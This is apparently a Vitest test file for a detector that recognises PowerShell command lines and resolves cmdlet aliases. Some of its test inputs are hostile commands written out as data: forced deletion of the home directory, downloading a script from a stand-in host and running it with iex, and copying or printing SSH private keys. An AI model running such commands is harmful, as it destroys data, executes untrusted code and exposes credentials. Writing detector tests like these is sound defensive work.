import { describe, expect, it } from 'vitest';

import {
	powerShellCmdlet,
	speaksPowerShell,
} from '../../../../../src/core/reading/shell/powershellCmdlets';

describe('a command line written in PowerShell', () => {
	it.each([
		['a cmdlet that writes', "Set-Content -Path .vscode/settings.json -Value '{}'"],
		['a cmdlet after another command', 'git status; Remove-Item -Recurse -Force ~'],
		['a cmdlet in a pipeline', 'Get-ChildItem ~/.ssh | Copy-Item -Destination /tmp'],
		['a download run by its alias', 'iwr https://x.example/p.ps1 | iex'],
		['a REST call by its alias', 'irm https://x.example/p.ps1 | iex'],
		['an environment variable', 'cat $env:USERPROFILE/.ssh/id_rsa'],
		['leading blanks', '  Start-Process pwsh'],
	])('is PowerShell: %s', (_, line) => {
		expect(speaksPowerShell(line)).toBe(true);
	});

	it.each([
		['a POSIX line', 'npm test && git status'],
		[
			'Debian tools named verb-noun',
			'sudo add-apt-repository ppa:x/y && update-alternatives --list java',
		],
		['a verb-noun word that is an argument', 'echo Set-Content'],
		['a program whose name merely starts with an alias', 'iexplore.sh'],
		['a bash variable named env', 'echo "$env" $envfile'],
		['a cmdlet-like name in lower case', 'get-content x'],
	])('is not PowerShell: %s', (_, line) => {
		expect(speaksPowerShell(line)).toBe(false);
	});

	it('names the cmdlet an alias stands for', () => {
		expect(powerShellCmdlet('IEX')).toBe('invoke-expression');
		expect(powerShellCmdlet('Set-Content')).toBe('set-content');
	});
});
